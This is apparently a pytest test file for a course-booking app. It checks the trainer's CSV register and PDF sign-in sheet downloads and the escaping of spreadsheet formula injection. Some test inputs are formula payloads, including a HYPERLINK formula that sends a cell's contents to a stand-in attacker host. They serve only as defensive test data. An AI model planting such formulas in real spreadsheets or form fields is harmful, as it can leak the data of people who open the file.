"""The register as a spreadsheet and the sign-in sheet as a PDF, as a trainer downloads them.

The spreadsheet is read back with the csv module; the PDF with pypdf.
"""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from pypdf import PdfReader

from app.models import Attendance, BookingStatus, utcnow
from app.spreadsheets import safe_cell
from tests.factories import (
    make_agency,
    make_booking,
    make_course,
    make_prospectus,
    make_session,
    make_venue,
)

TITLE = "Understanding neglect"
# Far enough ahead to stay to come for years; 9:30am in London, on summer time.
SUMMER_MORNING = datetime(2037, 6, 11, 8, 30, tzinfo=UTC)


@pytest.fixture
def session(app, trainer):
    course = make_course(make_prospectus(), title=TITLE, slug="understanding-neglect")
    return make_session(
        course,
        starts_at=SUMMER_MORNING,
        venue=make_venue(name="Riverside House", postcode="S60 1AE"),
        trainers=[trainer],
    )


# The spreadsheet --------------------------------------------------------------------------


def download_csv(browser, session) -> tuple[object, list[dict[str, str]]]:
    response = browser.get(f"/trainer/sessions/{session.id}/register.csv")
    assert response.status_code == 200
    text = response.data.decode("utf-8-sig")
    return response, list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (
            '=HYPERLINK("https://evil.example","Click")',
            '\'=HYPERLINK("https://evil.example","Click")',
        ),
        ("+44 1709 123456", "'+44 1709 123456"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("Jo Bloggs", "Jo Bloggs"),
        ("Jo = Bloggs", "Jo = Bloggs"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_starts_with_a_quote(value, safe):
    assert safe_cell(value) == safe


def test_a_number_is_no_formula_and_keeps_its_minus_sign():
    assert [safe_cell(value) for value in (-2, Decimal("-0.5"), 1.5)] == ["-2", "-0.5", "1.5"]
    assert safe_cell("-0.5") == "'-0.5"


def test_the_register_downloads_as_a_spreadsheet_excel_reads_correctly(as_trainer, session):
    make_booking(session, name="Zoë Siân Ní Bhriain", email="zoe@example.org")

    response, rows = download_csv(as_trainer, session)

    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=register-understanding-neglect-2037-06-11.csv"
    )
    assert "no-store" in response.headers["Cache-Control"]
    assert rows[0]["Name"] == "Zoë Siân Ní Bhriain"


def test_the_spreadsheet_has_each_person_then_the_waiting_list_in_turn(as_trainer, session):
    agency = make_agency(name="Rotherham Hospital")
    marked = make_booking(
        session,
        name="Ann Attended",
        email="ann@example.org",
        job_title="Midwife",
        agency=agency,
        access_needs="A hearing loop",
    )
    marked.attendance = Attendance.LEFT_EARLY
    walked_in = make_booking(session, name="Will Walked-In")
    walked_in.walk_in = True
    make_booking(session, BookingStatus.AWAITING_APPROVAL, name="Bea Approval")
    later = make_booking(session, BookingStatus.WAITING, name="Wes Second")
    earlier = make_booking(session, BookingStatus.WAITING, name="Wanda First")
    earlier.created_at, later.created_at = utcnow() - timedelta(days=1), utcnow()
    make_booking(session, BookingStatus.CANCELLED, name="Carl Cancelled")

    _, rows = download_csv(as_trainer, session)

    assert [row["Name"] for row in rows] == [
        "Ann Attended",
        "Bea Approval",
        "Will Walked-In",
        "Wanda First",
        "Wes Second",
    ]
    assert rows[0] == {
        "Name": "Ann Attended",
        "Email": "ann@example.org",
        "Agency": "Rotherham Hospital",
        "Job title": "Midwife",
        "Access needs": "A hearing loop",
        "Booking": "Confirmed",
        "Walked in": "No",
        "Attendance": "Left early",
        "Place in waiting list": "",
    }
    assert rows[1]["Booking"] == "Waiting for their manager's approval"
    assert rows[2]["Walked in"] == "Yes"
    assert [(row["Booking"], row["Place in waiting list"]) for row in rows[3:]] == [
        ("On the waiting list", "1"),
        ("On the waiting list", "2"),
    ]


def test_no_cell_of_the_spreadsheet_can_start_a_formula(as_trainer, session):
    agency = make_agency(name="@Agency")
    make_booking(
        session,
        name='=HYPERLINK("https://evil.example/?"&A2,"Click me")',
        job_title="+Deputy",
        agency=agency,
        access_needs="-1 step at the door",
    )

    response, rows = download_csv(as_trainer, session)

    (row,) = rows
    assert row["Name"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Click me")'
    assert (row["Agency"], row["Job title"], row["Access needs"]) == (
        "'@Agency",
        "'+Deputy",
        "'-1 step at the door",
    )
    for line in response.data.decode("utf-8-sig").splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


# The sign-in sheet ------------------------------------------------------------------------


def download_pdf(browser, session) -> tuple[object, PdfReader, str]:
    response = browser.get(f"/trainer/sessions/{session.id}/sign-in-sheet.pdf")
    assert response.status_code == 200
    reader = PdfReader(io.BytesIO(response.data))
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    return response, reader, text


def test_the_sign_in_sheet_is_an_a4_pdf_of_names_agencies_and_a_signature_column(
    as_trainer, session
):
    make_booking(session, name="Ann Attendee", agency=make_agency(name="Rotherham Hospital"))
    make_booking(session, name="Bob Booked", agency=make_agency(name="South Yorkshire Police"))
    make_booking(session, BookingStatus.WAITING, name="Wes Waiting")
    make_booking(session, BookingStatus.AWAITING_APPROVAL, name="Bea Approval")

    response, reader, text = download_pdf(as_trainer, session)

    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=sign-in-sheet-understanding-neglect-2037-06-11.pdf"
    )
    assert "no-store" in response.headers["Cache-Control"]
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert (round(float(width) * 25.4 / 72), round(float(height) * 25.4 / 72)) == (210, 297)
    assert "Sign-in sheet" in text
    assert TITLE in text
    assert "Thursday 11 June 2037, 9:30am to 12:30pm" in text
    assert "Riverside House, S60 1AE" in text
    assert "Trainers: Sam Trainer" in text
    assert "Name Agency Signature" in text
    assert "Ann Attendee Rotherham Hospital" in text
    assert "Bob Booked South Yorkshire Police" in text
    assert text.index("Ann Attendee") < text.index("Bob Booked")
    assert "Wes Waiting" not in text
    assert "Bea Approval" not in text


def test_a_long_register_runs_onto_more_pages_with_the_headings_repeated(as_trainer, session):
    for number in range(40):
        make_booking(session, name=f"Person {number:02d} Surname")

    _, reader, text = download_pdf(as_trainer, session)

    assert len(reader.pages) >= 2
    assert all("Signature" in page.extract_text() for page in reader.pages)
    assert "Person 39 Surname" in text
